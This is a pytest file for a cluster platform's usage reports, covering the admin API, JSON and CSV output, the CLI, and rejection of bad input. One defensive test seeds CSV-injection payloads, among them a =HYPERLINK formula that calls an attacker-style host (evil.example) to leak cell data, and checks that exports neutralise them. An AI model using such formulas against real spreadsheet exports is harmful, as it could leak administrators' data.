"""Usage reports: the admin API (JSON and CSV, by user, group, application, day), one's own month,
the CLI, and bad input answered with a clear 4xx."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import event, select
from typer.testing import CliRunner

from cmbcluster.cli import app as cli
from cmbcluster.db.models import Group, GroupMember, StorageInterval, UsageInterval, User
from cmbcluster.settings import CoreSettings

NOV = dt.datetime(2026, 11, 1, tzinfo=dt.UTC)


@pytest.fixture
def settings(tmp_path: Path) -> CoreSettings:
    # operator prices: 0.05 per vCPU-hour, 0.01 per GiB-hour, 0.02 per GB-month; no full reconcile
    # pass after the start (it checks the budgets: the CSV test counts the statements on them)
    return CoreSettings(
        data_dir=tmp_path / "data",
        prices='{"vcpu_hour": 0.05, "gib_hour": 0.01, "storage_gb_month": {"standard": 0.02}}',
        reconcile_interval_seconds=3600,
    )


def s(day: int, hour: int = 0) -> int:
    return int((NOV + dt.timedelta(days=day - 1, hours=hour)).timestamp())


@pytest.fixture
def recorded(app: FastAPI, client: TestClient, alice: dict[str, str], bob: dict[str, str]) -> dict[str, str]:
    """Alice: 10 h of 2 cores / 4 GiB on the 2nd (notebook) and 100 GiB all month; Bob: 5 h of 1 core /
    2 GiB on the 3rd (files). Alice is in physics; Bob in physics and astro."""
    with app.state.context.sessions() as db:
        ids = {u.email.split("@")[0]: u.id for u in db.execute(select(User)).scalars()}
        db.add_all([
            UsageInterval(environment_id="ea", user_id=ids["alice"], application="jupyterlab", preset="standard",
                          cpu=2, memory_gib=4, start_s=s(2, 8), end_s=s(2, 18), seen_s=s(2, 18)),
            UsageInterval(environment_id="eb", user_id=ids["bob"], application="files", preset="light",
                          cpu=1, memory_gib=2, start_s=s(3, 8), end_s=s(3, 13), seen_s=s(3, 13)),
            StorageInterval(storage_id="sa", user_id=ids["alice"], storage_class="standard", bytes=100 * 1024**3,
                            start_s=s(1), end_s=s(1) + 730 * 3600),
        ])  # fmt: skip
        physics, astro = Group(name="physics"), Group(name="astro")
        db.add_all([physics, astro])
        db.flush()
        db.add_all([GroupMember(group_id=physics.id, user_id=ids["alice"]),
                    GroupMember(group_id=physics.id, user_id=ids["bob"]),
                    GroupMember(group_id=astro.id, user_id=ids["bob"])])  # fmt: skip
        db.commit()
    return ids


def test_admin_report_by_user_with_estimated_cost(client: TestClient, admin: dict[str, str], recorded: object) -> None:
    # 730 hours from November 1st: the whole of Alice's storage record
    period = {"from": "2026-11-01", "to": "2026-12-01T10:00:00Z"}
    response = client.get("/api/v1/usage", headers=admin, params=period)
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["estimate"] == "estimates from the operator's prices (CMBCLUSTER_PRICES), not a bill"
    rows = {row["label"]: row for row in body["rows"]}
    alice, bob = rows["alice@example.org"], rows["bob@example.org"]
    assert alice["core_hours"] == 20 and alice["memory_gib_hours"] == 40 and alice["storage_gb_months"] == 100
    assert alice["compute_cost"] == 1.4 and alice["storage_cost"] == 2.0 and alice["cost"] == 3.4
    assert bob["core_hours"] == 5 and bob["cost"] == 0.35
    assert body["totals"]["cost"] == 3.75


def test_by_group_application_and_day(client: TestClient, admin: dict[str, str], recorded: object) -> None:
    period = {"from": "2026-11-01", "to": "2026-12-01"}
    groups = client.get("/api/v1/usage", headers=admin, params={**period, "group_by": "group"}).json()
    by_group = {row["key"]: row["core_hours"] for row in groups["rows"]}
    assert by_group == {"astro": 5, "physics": 25}
    apps = client.get("/api/v1/usage", headers=admin, params={**period, "group_by": "application"}).json()
    assert {row["key"]: row["core_hours"] for row in apps["rows"]} == {"files": 5, "jupyterlab": 20}
    days = client.get("/api/v1/usage", headers=admin, params={**period, "group_by": "day"}).json()
    assert len(days["rows"]) == 30
    assert [row["core_hours"] for row in days["rows"][:4]] == [0, 20, 5, 0]


def test_csv_export_says_it_is_an_estimate(
    app: FastAPI, client: TestClient, admin: dict[str, str], recorded: object
) -> None:
    statements: list[str] = []

    def record(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        statements.append(statement)

    event.listen(app.state.context.engine, "before_cursor_execute", record)
    try:
        response = client.get(
            "/api/v1/usage", headers=admin, params={"from": "2026-11-01", "to": "2026-12-01", "format": "csv"}
        )
    finally:
        event.remove(app.state.context.engine, "before_cursor_execute", record)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    lines = response.text.splitlines()
    assert lines[0].startswith("# estimates from") and "alice@example.org" in response.text
    assert not [s for s in statements if "FROM budgets" in s]  # a CSV holds no budgets: none are worked out


def test_each_user_sees_only_their_own_month(
    client: TestClient, alice: dict[str, str], recorded: dict[str, str]
) -> None:
    mine = client.get("/api/v1/usage/me", headers=alice, params={"from": "2026-11-01", "to": "2026-12-01"}).json()
    assert mine["totals"]["core_hours"] == 20
    assert client.get("/api/v1/usage", headers=alice).status_code == 403


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"group_by": "planet"}, "group_by"),
        ({"from": "yesterday"}, "ISO date"),
        ({"from": "2026-11-05", "to": "2026-11-01"}, "after"),
        ({"from": "2020-01-01", "to": "2026-01-01"}, "366 days"),
        # found by an outsider's trial: each was a 500 (no next month, or no day before, as a date)
        ({"from": "9999-12-01"}, "between 1970-01-01 and 9999-01-01"),
        ({"from": "9999-12-31T23:00:00-01:00"}, "between"),
        ({"from": "9998-12-31", "to": "9999-12-31T23:59:59"}, "'to' must be between"),
        ({"from": "0001-01-01T00:00:00+01:00", "to": "0001-02-01"}, "between"),
    ],
)
def test_bad_input_is_a_clear_4xx(
    client: TestClient, admin: dict[str, str], params: dict[str, str], message: str
) -> None:
    paths = ["/api/v1/usage"] + (["/api/v1/usage/me"] if "group_by" not in params else [])
    for path in paths:
        response = client.get(path, headers=admin, params=params)
        assert response.status_code == 400, response.text
        assert message in response.text


def test_a_period_given_in_another_offset_keeps_it(client: TestClient, alice: dict[str, str], recorded: object) -> None:
    """Alice in Tokyo asks for November from her midnight: until `to`, the next month's start there (it
    was UTC's: 9 hours, none of her usage), by her days (her 10 h from 08:00 UTC on the 2nd are 7 h
    on her 2nd and 3 h on her 3rd)."""
    answer = client.get("/api/v1/usage/me", headers=alice, params={"from": "2026-11-01T00:00:00+09:00"})
    assert answer.status_code == 200, answer.text
    mine = answer.json()
    assert (mine["from"], mine["to"]) == ("2026-11-01T00:00:00+09:00", "2026-12-01T00:00:00+09:00")
    assert mine["totals"]["core_hours"] == 20
    assert [(row["key"], row["core_hours"]) for row in mine["rows"][:4]] == [
        ("2026-11-01", 0), ("2026-11-02", 14), ("2026-11-03", 6), ("2026-11-04", 0)
    ]  # fmt: skip


def test_cli_usage_report_month_csv(
    client: TestClient, recorded: object, settings: CoreSettings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CMBCLUSTER_DATA_DIR", str(settings.data_dir))
    assert settings.prices is not None
    monkeypatch.setenv("CMBCLUSTER_PRICES", settings.prices)
    result = CliRunner().invoke(cli, ["usage", "report", "--month", "2026-11", "--csv"])
    assert result.exit_code == 0, result.output
    assert "alice@example.org" in result.output and ",1.4," in result.output  # Alice's compute cost
    bad = CliRunner().invoke(cli, ["usage", "report", "--month", "November"])
    assert bad.exit_code == 2 and "YYYY-MM" in bad.output
    last = CliRunner().invoke(cli, ["usage", "report", "--month", "9999-12"])  # was a traceback
    assert last.exit_code == 2 and "not between 1970-01 and 9998-12" in last.output, last.output


def test_a_huge_parameter_is_not_echoed_whole(client: TestClient, admin: dict[str, str]) -> None:
    response = client.get("/api/v1/usage", headers=admin, params={"from": "x" * 5000})
    assert response.status_code == 400
    message = response.json()["message"]
    assert message.startswith("'from' must be an ISO date") and len(message) <= 500, len(message)


def test_csv_cells_cannot_run_as_spreadsheet_formulas(
    client: TestClient, admin: dict[str, str], recorded: dict[str, str], app: FastAPI,
    settings: CoreSettings, monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    """An e-mail or a group name an attacker chose, opened by an admin in Excel or LibreOffice: a cell
    starting with = + - @ (or a tab or carriage return) is a formula there, so it gets a leading quote
    (OWASP's CSV injection advice), in the API's download and in the CLI's --csv alike."""
    import csv
    import io

    hostile = ["=2+3@example.org", "+1@example.org", "-1@example.org", "@sum@example.org", "\tx@example.org"]
    with app.state.context.sessions() as db:
        for email in hostile:
            db.add(User(email=email, name="", auth_provider="local", subject=email))
        db.flush()
        users = {u.email: u.id for u in db.execute(select(User)).scalars()}
        group = Group(name='=HYPERLINK("http://evil.example/?"&A1)')
        db.add(group)
        db.flush()
        for email in hostile:
            hour = {"start_s": s(4), "end_s": s(4, 1), "seen_s": s(4, 1)}
            db.add(UsageInterval(environment_id=f"e{users[email]}", user_id=users[email], application="files",
                                 preset="light", cpu=1, memory_gib=1, **hour))  # fmt: skip
            db.add(GroupMember(group_id=group.id, user_id=users[email]))
        db.commit()

    def cells(text: str) -> list[str]:
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row[:2]]

    period = {"from": "2026-11-01", "to": "2026-12-01", "format": "csv"}
    by_user = client.get("/api/v1/usage", headers=admin, params={**period, "group_by": "user"})
    by_group = client.get("/api/v1/usage", headers=admin, params={**period, "group_by": "group"})
    monkeypatch.setenv("CMBCLUSTER_DATA_DIR", str(settings.data_dir))
    cli_csv = CliRunner().invoke(cli, ["usage", "report", "--month", "2026-11", "--csv"])
    assert cli_csv.exit_code == 0, cli_csv.output
    for text in (by_user.text, by_group.text, cli_csv.output):
        written = cells(text)
        assert not [cell for cell in written if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], written
    assert "'=2+3@example.org" in cells(by_user.text) and "'\tx@example.org" in cells(cli_csv.output)
    assert """'=HYPERLINK("http://evil.example/?"&A1)""" in cells(by_group.text)
    # numbers stay numbers, and plain names stay as they are
    assert "alice@example.org" in cells(by_user.text) and ",1.4," in by_user.text


def test_a_report_says_whether_its_amounts_are_priced(
    client: TestClient, alice: dict[str, str], tmp_path: Path
) -> None:
    """`priced` tells a page whether to show amounts: without prices every amount is 0 and the
    dashboard leads with hours instead of "$0.00" beside "no amounts" (found by a newcomer)."""
    from cmbcluster.app import create_app
    from cmbcluster.testing.api import LOCAL, dev_sign_in

    assert client.get("/api/v1/usage/me", headers=alice).json()["priced"] is True
    with TestClient(create_app(CoreSettings(data_dir=tmp_path / "unpriced")), base_url=LOCAL) as unpriced:
        report = unpriced.get("/api/v1/usage/me", headers=dev_sign_in(unpriced, "carol@example.org")).json()
    assert report["priced"] is False and report["totals"]["cost"] == 0
    assert report["estimate"] == "no prices are configured for this deployment: usage only, no amounts"
